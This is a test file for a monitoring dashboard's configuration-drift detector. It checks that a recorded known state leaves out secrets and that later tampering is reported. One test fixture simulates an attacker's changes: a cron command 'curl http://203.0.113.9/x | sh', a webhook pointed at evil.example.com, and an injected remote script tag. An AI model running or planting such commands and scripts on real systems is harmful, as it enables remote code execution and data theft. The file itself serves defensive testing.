import { expect, test } from 'vitest'
import { createBackend, type Seed } from '#backend/index.ts'
import { driftSince } from '#configuration/drift.ts'
import { readConfiguration } from '#configuration/reading/readConfiguration.ts'
import { writeConfiguration } from '#configuration/writeConfiguration.ts'
import { comparableIn, knownStateOf, watchedOf } from '#resources/setting/known/knownState.ts'
import { seen } from './seen.ts'

const seed: Seed = {
  user: [{ id: 1, username: 'admin', role: 0 }],
  server: [{ id: 1, name: 'tokyo', uuid: '5d4b1a70-0000-4000-8000-000000000001', user_id: 1 }],
  cron: [{ id: 1, name: 'backup', servers: [1], scheduler: '@daily', command: 'backup.sh --key abc' }],
  nat: [{ id: 4, name: 'box', server_id: 1, host: '127.0.0.1:80', domain: 'box.example.com' }],
  alert_rule: [{ id: 1, name: 'memory' }],
  service: [{ id: 1, name: 'web', target: 'https://web.example.com' }],
  notification: [{ id: 1, name: 'chat', url: 'https://chat.example.com/hook-token', verify_tls: true }],
  ddns: [{ id: 1, name: 'home', provider: 'webhook', webhook_url: 'https://ns.example.com/dns-token' }],
  api_token: [{ id: 1, user_id: 1, name: 'ci', scopes: ['nezha:server:read'], token: 'nzp_secret' }],
}

async function knownTextOf(backend: ReturnType<typeof createBackend>) {
  const { present, target } = await seen(backend)
  return writeConfiguration(knownStateOf(present, target), 'yaml')
}

async function driftOf(text: string, backend: ReturnType<typeof createBackend>) {
  const { present, target } = await seen(backend)
  return driftSince(readConfiguration(text), comparableIn(watchedOf(present), target)).map(
    ({ descriptor, finding, name, fields }) => [descriptor.name, finding, name, ...fields.map(({ field }) => field)],
  )
}

test('known state: has neither a command nor a secret, and nothing has changed at first', async () => {
  const backend = createBackend({ seed })
  const text = await knownTextOf(backend)
  expect(text).not.toMatch(/backup\.sh|nzp_|password|agent_secret|hook-token|dns-token/)
  expect(text).toContain('command_sha256')
  expect(await driftOf(text, backend)).toEqual([])
})

test('known state: names what is new, changed and gone, servers by their agents', async () => {
  const backend = createBackend({ seed })
  const text = await knownTextOf(backend)
  const { tables, setting } = backend
  tables.user.push({ ...tables.user[0]!, id: 9, username: 'sysop' })
  tables.cron[0]!.command = 'curl http://203.0.113.9/x | sh'
  tables.server[0]!.user_id = 9
  // An agent that is installed again has another identity.
  tables.server.push({ ...tables.server[0]!, id: 7, uuid: '5d4b1a70-0000-4000-8000-000000000002' })
  tables.nat.length = 0
  tables.api_token[0]!.scopes = ['nezha:*']
  tables.alert_rule[0]!.fail_trigger_tasks = [1]
  tables.service[0]!.target = 'https://other.example.com'
  tables.notification[0]!.verify_tls = false
  tables.ddns[0]!.webhook_url = 'https://evil.example.com/dns-token'
  setting.custom_code_dashboard = '<script src="https://evil.example.com/x.js"></script>'
  expect((await driftOf(text, backend)).toSorted()).toEqual(
    [
      ['alert-rule', 'different', 'memory', 'fail_trigger_tasks'],
      ['api-tokens', 'different', 'ci', 'scopes'],
      ['ddns', 'different', 'home', 'webhook_url_sha256'],
      ['notification', 'different', 'chat', 'verify_tls'],
      ['service', 'different', 'web', 'target'],
      ['cron', 'different', 'backup', 'command_sha256'],
      ['nat', 'new', 'box'],
      ['server', 'different', 'tokyo', 'owner'],
      ['server', 'onlyHere', 'tokyo'],
      ['setting', 'different', '#0', 'custom_code_dashboard'],
      ['user', 'onlyHere', 'sysop'],
    ].toSorted(),
  )
})

test('known state: a classic server has no owners and no tokens, and the same words', async () => {
  const backend = createBackend({ dialect: 'classic', seed })
  const text = await knownTextOf(backend)
  expect(text).not.toContain('api-tokens')
  backend.tables.cron[0]!.scheduler = '@hourly'
  expect(await driftOf(text, backend)).toEqual([['cron', 'different', 'backup', 'scheduler']])
})

test('known state: one of a classic server is compared with what the same server tells after its update', async () => {
  const service = seed.service!.map((monitor) => ({ ...monitor, enable_show_in_service: true }))
  const text = await knownTextOf(createBackend({ dialect: 'classic', seed: { ...seed, service } }))
  const updated = createBackend({ dialect: 'current', seed })
  expect(await driftOf(text, updated)).toEqual([])
  updated.tables.service[0]!.hide_for_guest = true
  expect(await driftOf(text, updated)).toEqual([['service', 'different', 'web', 'enable_show_in_service']])
})

test('known state: tells what was put where nothing was, and what was taken away', async () => {
  const backend = createBackend({ dialect: 'classic', seed })
  const text = await knownTextOf(backend)
  Object.assign(backend.tables.notification[0]!, { url: '', request_header: 'X-Key: 1' })
  expect(await driftOf(text, backend)).toEqual([
    ['notification', 'different', 'chat', 'url_sha256', 'request_header_sha256'],
  ])
})
